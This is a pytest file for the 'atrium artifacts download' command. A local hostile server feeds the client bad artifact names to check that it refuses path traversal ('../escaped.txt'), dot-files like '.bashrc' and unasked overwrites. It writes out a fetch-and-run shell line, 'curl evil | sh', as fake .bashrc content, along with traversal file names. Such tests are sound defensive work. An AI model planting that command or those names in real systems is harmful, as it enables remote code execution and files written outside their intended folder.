"""The client against what it must not trust: `atrium artifacts download`
never replaces an existing file without `--overwrite` and saves only plain file names inside
the target directory, whatever a hostile server (`hostile_server.py`) lists or sends; event
ids that only Python calls digits are skipped, not a crash."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from atrium.client import Client
from tests.client.conftest import Server
from tests.processes import free_port, run_atrium, stop_process, wait_for_port

HOSTILE_SERVER = Path(__file__).with_name("hostile_server.py")


def _download(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return run_atrium(["artifacts", "download", *args], env=env)


def test_an_existing_file_is_kept_unless_overwrite(
    server: Server, api_key: str, tmp_path: Path
) -> None:
    env = {**server.env, "ATRIUM_API_KEY": api_key}
    with Client(server.url, api_key) as client:
        run = client.runs.wait(client.runs.create("Write notes").run_id, timeout=30)
    assert run.artifacts and [artifact.name for artifact in run.artifacts] == ["answer.md"]
    mine = tmp_path / "answer.md"
    mine.write_text("my own notes\n")

    refused = _download(env, run.run_id, "-o", str(tmp_path))
    assert refused.returncode == 1, refused.stdout
    assert f"{mine} exists; pass --overwrite to replace it" in refused.stderr
    assert mine.read_text() == "my own notes\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["answer.md"], "nothing else"

    replaced = _download(env, run.run_id, "-o", str(tmp_path), "--overwrite")
    assert replaced.returncode == 0, replaced.stderr
    assert hashlib.sha256(mine.read_bytes()).hexdigest() == run.artifacts[0].sha256
    assert sorted(path.name for path in tmp_path.iterdir()) == ["answer.md"]


HostileServer = Callable[[list[dict[str, str]]], dict[str, str]]


@pytest.fixture
def hostile() -> Iterator[HostileServer]:
    """`hostile(artifacts)`: a hostile server (hostile_server.py) serving those artifacts; the
    environment that points `atrium` at it."""
    processes: list[subprocess.Popen[bytes]] = []

    def start(artifacts: list[dict[str, str]]) -> dict[str, str]:
        port = free_port()
        scenario = json.dumps({"artifacts": artifacts})
        process = subprocess.Popen([sys.executable, str(HOSTILE_SERVER), str(port), scenario])
        processes.append(process)
        wait_for_port(port, process=process)
        return {"ATRIUM_URL": f"http://127.0.0.1:{port}", "ATRIUM_API_KEY": "atr_" + "k" * 40}

    yield start
    for process in processes:
        stop_process(process, timeout=10)


def _tree(root: Path) -> list[str]:
    return sorted(str(path.relative_to(root)) for path in root.rglob("*"))


def test_listed_names_that_are_not_plain_file_names_are_refused(
    server: Server, hostile: HostileServer, tmp_path: Path
) -> None:
    env = {
        **server.env,
        **hostile(
            [
                {"name": "../escaped.txt", "disposition": "escaped.txt", "content": "x"},
                {"name": ".bashrc", "disposition": ".bashrc", "content": "curl evil | sh"},
                {"name": "ok.md", "disposition": "ok.md", "content": "fine"},
            ]
        ),
    }
    target = tmp_path / "out"
    result = _download(env, "run_hostile", "-o", str(target))
    assert result.returncode == 1, result.stdout
    assert "refusing art_0: its name '../escaped.txt'" in result.stderr
    assert "refusing art_1: its name '.bashrc' must not begin with a dot" in result.stderr
    assert _tree(tmp_path) == [], "nothing is written, not even the safe artifact"


def test_a_hostile_content_disposition_cannot_choose_the_file(
    server: Server, hostile: HostileServer, tmp_path: Path
) -> None:
    env = {
        **server.env,
        **hostile(
            [
                {"name": "ok.md", "disposition": "../../escaped.md", "content": "fine"},
                {"name": "notes.md", "disposition": ".bashrc", "content": "notes"},
            ]
        ),
    }
    target = tmp_path / "deep" / "out"
    result = _download(env, "run_hostile", "-o", str(target))
    assert result.returncode == 0, result.stderr
    assert _tree(tmp_path) == ["deep", "deep/out", "deep/out/notes.md", "deep/out/ok.md"]
    assert (target / "ok.md").read_text() == "fine"
    assert (target / "notes.md").read_text() == "notes"


def test_event_ids_that_only_python_calls_digits_are_skipped(hostile: HostileServer) -> None:
    env = hostile([])
    with Client(env["ATRIUM_URL"], env["ATRIUM_API_KEY"]) as client:
        events = list(client.runs.stream("run_hostile"))
    assert [(event.id, event.event) for event in events] == [
        (1, "run.queued"),
        (2, "run.completed"),
    ]


def test_the_library_saves_a_hostile_file_name_under_the_artifact_id(
    hostile: HostileServer, tmp_path: Path
) -> None:
    env = hostile(
        [
            {"name": "notes.md", "disposition": ".bashrc", "content": "curl evil | sh"},
            {"name": "ok.md", "disposition": "../ok.md", "content": "fine"},
        ]
    )
    with Client(env["ATRIUM_URL"], env["ATRIUM_API_KEY"]) as client:
        saved = client.runs.download_artifacts("run_hostile", to=tmp_path)
    assert saved == [tmp_path / "art_0", tmp_path / "ok.md"]
    assert _tree(tmp_path) == ["art_0", "ok.md"]
